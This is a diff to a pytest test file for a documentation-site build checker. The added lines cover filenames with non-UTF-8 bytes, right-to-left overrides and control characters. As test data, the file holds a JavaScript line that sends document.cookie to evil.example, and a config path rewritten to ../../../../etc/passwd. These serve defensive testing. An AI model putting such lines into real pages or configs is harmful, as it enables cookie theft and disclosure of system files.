@@ -15,6 +15,7 @@ files that are links out of the project.
 """
 from __future__ import annotations
 
+import os
 from pathlib import Path
 
 import pytest
@@ -48,6 +49,11 @@ def _problems(project: Path, site: Path) -> tuple[list, list]:
 # too deeply hides the snippet's and docs/CNAME's problems when it shares theirs), except the links
 # out of the project, each named at its own file: they share one.
 
+# Names no web address carries as written: a byte that is not UTF-8, a right-to-left override
+# (shows "photo\u202egnp.png" as "photopng.g"), a control character in a folder's name; as shown.
+UNPUBLISHABLE = {os.fsdecode(b"caf\xe9.md"): "docs/caf\\xe9.md",
+                 "guide/photo\u202egnp.png": "docs/guide/photo\\u202egnp.png",
+                 "bell\x07folder/page.md": "docs/bell\\u0007folder"}
 EVIL = "location.href = 'https://evil.example/?c=' + document.cookie;\n"
 SCRIPTS = ["assets/a11y.js", "assets/extra.JS", "attack/module.mjs", "assets/javascripts/bundle.cjs"]
 SNIPPET = "docs/.snippets/abbreviations.md"
@@ -74,11 +80,17 @@ def shared(tmp_path_factory) -> dict:
     assert "logo: assets/logo.svg" in clinic_text
     clinic.write_text(clinic_text.replace("logo: assets/logo.svg", "logo: ../../../../etc/passwd", 1), encoding="utf-8")
     (project / "docs/CNAME").write_bytes(b"evil.example\n")
+    for name in UNPUBLISHABLE:
+        (project / "docs" / name).parent.mkdir(parents=True, exist_ok=True)
+        (project / "docs" / name).write_text(PAGE, encoding="utf-8")
     checked, built = _problems(project, root / "site")
     # Every case taken out: what the failed build staged must not reach the next build's site.
     for name in NAMED_LIKE_FILES + SCRIPTS:
         (project / "docs" / name).unlink()
     (project / "docs/sitemap.xml").rmdir()
+    for name in UNPUBLISHABLE:
+        (project / "docs" / name).unlink()
+    (project / "docs" / "bell\x07folder").rmdir()
     snippet.write_text(snippet_text, encoding="utf-8")
     clinic.write_text(clinic_text, encoding="utf-8")
     (project / "docs/CNAME").write_bytes(b"EXAMPLE.org.\n")   # the site's own host, as staff may write it
@@ -94,9 +106,24 @@ def test_the_shared_cases_are_every_problem_of_their_run(shared):
     domain, nothing else."""
     checked = shared["checked"]
     assert [str(problem) for problem in checked] == [str(problem) for problem in shared["built"]]
-    cases = {f"docs/{name}" for name in NAMED_LIKE_FILES + SCRIPTS} | {SNIPPET, "clinic.yml", "docs/CNAME"}
+    cases = {f"docs/{name}" for name in NAMED_LIKE_FILES + SCRIPTS} | {SNIPPET, "clinic.yml", "docs/CNAME"} | \
+        set(UNPUBLISHABLE.values())
     assert {problem.path for problem in checked} == cases, checked
-    assert len(checked) == len(NAMED_LIKE_FILES) + len(SCRIPTS) + 2 + 1 + 1, checked
+    assert len(checked) == len(NAMED_LIKE_FILES) + len(SCRIPTS) + 2 + 1 + 1 + len(UNPUBLISHABLE), checked
+
+
+@pytest.mark.build
+def test_a_name_no_address_can_carry_is_named_visibly_and_left_out(shared):
+    """A file or folder whose name is not UTF-8 text, or holds a control or invisible formatting
+    character, is named once, shown so it can be read and typed (\\xNN, \\uNNNN), and left out;
+    every problem of the run prints as UTF-8 text with no control character (it once stopped
+    the build with a UnicodeEncodeError naming no file)."""
+    named = [problem.path for problem in shared["checked"] if "no web address can carry" in problem.what]
+    assert sorted(named) == sorted(UNPUBLISHABLE.values())
+    for problem in shared["checked"] + shared["built"]:
+        line = str(problem)
+        line.encode("utf-8")   # strict: no lone surrogate
+        assert all(character in "\t" or character.isprintable() for character in line), line
 
 
 @pytest.mark.build
